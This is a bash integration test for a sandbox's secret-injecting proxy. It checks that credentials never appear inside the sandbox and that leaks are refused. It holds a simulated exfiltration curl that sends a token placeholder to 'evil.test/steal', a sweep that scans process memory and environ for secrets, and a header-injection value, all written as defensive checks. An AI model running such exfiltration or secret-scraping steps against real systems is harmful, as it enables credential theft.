#!/usr/bin/env bash
# Integration: [[secrets]] (docs/secrets.md) as a user and as an attacker
# inside see them, ns backend. A header-logging server on the host's
# loopback stands for the API; the proxy resolves names from a hosts file.
# The values are sentinels that must never be found inside: not in the
# environment, any process's environ, cmdline or memory, nor any file.
. "$CORDON_SRC/tests/lib/tap.sh"
. "$CORDON_SRC/tests/lib/cordon.sh"
. "$CORDON_SRC/tests/lib/fixtures.sh"

proxy_test_env secrets
log="$TEST_TMP/server.log"
port=$((20000 + (RANDOM % 20000)))

# The sentinels: random per run, so a match can only come from this test.
env_value="SENTINEL-env-$RANDOM$RANDOM$RANDOM"
file_value="SENTINEL-file-$RANDOM$RANDOM$RANDOM"
cmd_value="SENTINEL-cmd-$RANDOM$RANDOM$RANDOM"
printf '%s\n' "$file_value" >"$TEST_TMP/token-file"
printf '%s' "$cmd_value" >"$TEST_TMP/cmd-source"
chmod 600 "$TEST_TMP/token-file"
export HOST_API_TOKEN=$env_value

EXPECT_ENV=$env_value EXPECT_FILE=$file_value EXPECT_CMD=$cmd_value \
    $PY "$here/secret-server.py" "$port" "$log" >/dev/null 2>&1 &
cleanup_pids+=($!)
wait_port 127.0.0.1 "$port"

echo "127.0.0.1 api.test uploads.test evil.test" >"$hosts"
cat >"$XDG_CONFIG_HOME/cordon/config.toml" <<EOF2
[[secrets]]
name = "API_TOKEN"
from = "env:HOST_API_TOKEN"
hosts = ["api.test"]
header = "Authorization"
plain_http = true

[[secrets]]
name = "FILE_TOKEN"
from = "file:$TEST_TMP/token-file"
hosts = ["api.test", "uploads.test:$port"]
plain_http = true

[[secrets]]
name = "CMD_TOKEN"
from = "command:cat $TEST_TMP/cmd-source"
hosts = ["*.test"]
plain_http = true
EOF2

net_run() { # net_run [--set ...] SCRIPT
    local script=${*: -1}
    cordon_run "$ws" --network allowlist --net-hosts-file "$hosts" --net-audit-log "$audit" \
        --allow-host api.test --allow-host uploads.test --allow-host evil.test \
        --allow-host "127.0.0.1:$port" "${@:1:$#-1}" -- bash -c "$script"
}

# ------------------------------------------------ what the sandbox holds
net_run 'echo "api=$API_TOKEN"; echo "file=$FILE_TOKEN"; echo "cmd=$CMD_TOKEN"; echo "src=${HOST_API_TOKEN-unset}"'
like "the variable holds a recognisable placeholder (env: source)" "$out" \
    "api=cordon-secret-API_TOKEN-[0-9a-f]{32}"
like "... (file: source)" "$out" "file=cordon-secret-FILE_TOKEN-[0-9a-f]{32}"
like "... (command: source)" "$out" "cmd=cordon-secret-CMD_TOKEN-[0-9a-f]{32}"
like "the env: source variable itself is not forwarded" "$out" "src=unset"
first=$(grep -o 'api=[^ ]*' <<<"$out")
net_run 'echo "api=$API_TOKEN"'
unlike "the placeholder differs per session" "$out" "$first\$"

# Passthrough would forward the host's HOST_API_TOKEN: the secret still wins.
net_run --set env.mode=passthrough 'env; echo "src=${HOST_API_TOKEN-unset}"'
like "env.mode = passthrough: the source variable is removed" "$out" "src=unset"
unlike "env.mode = passthrough: no sentinel in the environment" "$out" "SENTINEL-"

# ------------------------------------------------ substitution and leaks
: >"$log"
net_run 'curl -sS -m 10 -H "Authorization: Bearer $API_TOKEN" http://api.test:'$port'/user;
    curl -sS -m 10 -H "X-File: $FILE_TOKEN" -H "X-Cmd: $CMD_TOKEN" "http://uploads.test:'$port'/up?c=$CMD_TOKEN"'
like "the bound host gets the env: value in its header" "$out" "auth=ok ENV"
like "file: and command: values reach a bound host, also in the URL" "$out" "auth=ok CMD,FILE"
like "the server saw the real value" "$(cat "$log")" "Authorization: Bearer $env_value"
unlike "the server never saw a placeholder" "$(cat "$log")" "cordon-secret-"
unlike "no sentinel came back into the sandbox" "$out" "SENTINEL-"

code() { echo "$out" | grep -o 'code=[0-9]*' | head -1; }
: >"$log"
net_run 'curl -sS -m 10 -o /dev/stderr -w "code=%{http_code}" -H "Authorization: Bearer $API_TOKEN" http://evil.test:'$port'/steal'
is "a placeholder sent to an unbound host is refused (403)" "$(code)" "code=403"
like "the refusal names the secret and where it may go" "$out" \
    "attempted leak: the placeholder of secret API_TOKEN in a request to evil.test:$port; it may be sent only to api.test"
is "nothing reached the unbound host" "$(wc -c <"$log")" "0"
like "the audit log records the attempted leak" "$(tail -3 "$audit")" \
    '"host":"evil.test".*"decision":"deny".*attempted leak: the placeholder of secret API_TOKEN'

net_run 'curl -sS -m 10 -o /dev/stderr -w "code=%{http_code}" "http://api.test:'$port'/q?t=$API_TOKEN"'
is "header = Authorization: the placeholder elsewhere in the head is refused" "$(code)" "code=403"
like "... naming the header rule" "$out" "outside its Authorization header \\(secrets.header\\)"
net_run 'curl -sS -m 10 -o /dev/stderr -w "code=%{http_code}" -H "X-File: $FILE_TOKEN" http://uploads.test:1/'
is "a port rule in secrets.hosts binds that port only" "$(code)" "code=403"
is "nothing reached a server in any refused case" "$(wc -c <"$log")" "0"

# Without the placeholder, requests are untouched (no substitution, no refusal).
net_run 'curl -sS -m 10 -H "Authorization: Bearer something-else" http://evil.test:'$port'/'
like "a request without placeholders passes as before" "$out" "auth=bad"

# ------------------------------------------------ the sentinel sweep inside
# While a request with the secret runs, look for the values everywhere the
# sandbox can read: environments, command lines and memory of every
# process, and every file outside the read-only system directories. The
# sweep is given the values reversed (its command line and the script's
# must not hold them) and skips its own memory, the only place it turns
# them round.
cp "$here/secret-sweep.py" "$ws/sweep.py"
reverse() { printf '%s' "$1" | rev; }
reversed="$(reverse "$env_value") $(reverse "$file_value") $(reverse "$cmd_value")"
net_run 'sleep 30 </dev/null & bg=$!
    curl -sS -m 10 -H "Authorization: Bearer $API_TOKEN" http://api.test:'$port'/ >/dev/null
    python3 sweep.py '"$reversed"'
    grep -rlsF -f <(for v in '"$reversed"'; do printf "%s\n" "$v" | rev; done) / --exclude-dir=proc \
        --exclude-dir=sys --exclude-dir=dev --exclude-dir=usr >/dev/null; echo "grep-files=$?"
    cat /proc/self/environ | tr "\0" "\n" | grep -c SENTINEL; kill $bg'
like "sweep: process memory was read (the sweep can see)" "$out" "scanned-bytes [1-9][0-9]{5,}"
like "sweep: no value in any environ, cmdline or memory inside" "$out" "found: nothing"
like "sweep: no value in any file inside" "$out" "grep-files=1"
# The sweep itself must be able to find what it looks for.
planted="planted-$RANDOM$RANDOM"
net_run 'X='"$planted"' sleep 30 & sleep 0.2; python3 sweep.py '"$(reverse "$planted")"'; kill $!'
like "sweep control: it finds a value another process holds" "$out" "found: .*[0-9]+/(environ|mem)"

# ------------------------------------------------ configuration rules
printf '[[secrets]]\nname = "T"\nfrom = "env:HOST_API_TOKEN"\nhosts = ["evil.test"]\n' >"$ws/.cordon.toml"
(cd "$ws" && "$CORDON" trust --yes >/dev/null 2>&1)
cordon_run "$ws" -- true
isnt_zero() { [ "$rc" -ne 0 ]; }
ok "a workspace file with [[secrets]] is refused" isnt_zero
like "... saying why and where it belongs" "$out" \
    "\\[\\[secrets\\]\\] is refused in the workspace file: which credentials the proxy puts into requests"
rm -f "$ws/.cordon.toml"
cordon_run "$ws" --set 'secrets=x' -- true
like "--set secrets is refused" "$out" "secrets can only be set in the user's or a host-owned configuration file"
# ... also as a TOML value, which a project's agent configuration could pass
cordon_run "$ws" --set 'secrets=[{name="T",from="file:/etc/hostname",hosts=["x.example"]}]' -- true
like "--set secrets as a TOML array is refused too" "$out" "secrets can only be set in the user's or a host-owned configuration file"
is "... and nothing ran" "$rc" 125

# A user's next step: `cordon config` lists the secrets, never a value.
out=$(cd "$ws" && "$CORDON" config 2>&1)
like "cordon config shows the secret's name and source" "$out" 'from = "env:HOST_API_TOKEN"'
unlike "cordon config shows no value" "$out" "SENTINEL-"

cp "$XDG_CONFIG_HOME/cordon/config.toml" "$TEST_TMP/good.toml"
# Without plain_http the value never goes out in cleartext: an http://
# request with the placeholder is refused, even to the bound host.
printf '[[secrets]]\nname = "API_TOKEN"\nfrom = "env:HOST_API_TOKEN"\nhosts = ["api.test"]\n' \
    >"$XDG_CONFIG_HOME/cordon/config.toml"
: >"$log"
net_run 'curl -sS -m 10 -o /dev/stderr -w "code=%{http_code}" -H "Authorization: Bearer $API_TOKEN" http://api.test:'$port'/'
is "no plain_http: a cleartext request with the placeholder is refused" "$(code)" "code=403"
like "... saying why and what to set" "$out" \
    "secret API_TOKEN is not sent in cleartext: this is a plain http:// request to api.test:$port \(set plain_http = true"
is "... and nothing reached the server" "$(wc -c <"$log")" "0"
cp "$TEST_TMP/good.toml" "$XDG_CONFIG_HOME/cordon/config.toml"

# A source that fails stops the session before anything runs inside.
cp "$XDG_CONFIG_HOME/cordon/config.toml" "$TEST_TMP/good.toml"
printf '[[secrets]]\nname = "GONE"\nfrom = "env:NOT_SET_ANYWHERE_%s"\nhosts = ["api.test"]\n' $RANDOM \
    >"$XDG_CONFIG_HOME/cordon/config.toml"
net_run 'echo ran-inside'
unlike "a missing env: source: nothing runs" "$out" "ran-inside"
like "... and the error names the secret and its source" "$out" "secret GONE: from env:NOT_SET_ANYWHERE_[0-9]+: the variable is not set"
printf '[[secrets]]\nname = "BAD"\nfrom = "command:printf \\"a\\\\r\\\\nb\\""\nhosts = ["api.test"]\n' \
    >"$XDG_CONFIG_HOME/cordon/config.toml"
net_run 'echo ran-inside'
like "a value with a line break is refused (header injection)" "$out" "secret BAD: .*line break or control character"
printf '[[secrets]]\nname = "X"\nfrom = "env:HOST_API_TOKEN"\nhost = ["api.test"]\n' \
    >"$XDG_CONFIG_HOME/cordon/config.toml"
net_run 'echo ran-inside'
like "a misspelt key gets a suggestion" "$out" "unknown key 'secrets.host' \\(did you mean 'hosts'\\?\\)"
cp "$TEST_TMP/good.toml" "$XDG_CONFIG_HOME/cordon/config.toml"

# cordon verify's row.
out=$(cd "$ws" && timeout 120 "$CORDON" verify --network allowlist 2>&1)
like "cordon verify: secrets row passes" "$out" "PASS +secrets +API_TOKEN: the sandbox's variable holds the session's placeholder; its value is not in the sandbox's environment, (not in|cannot read) the agent's environ"

tap_done
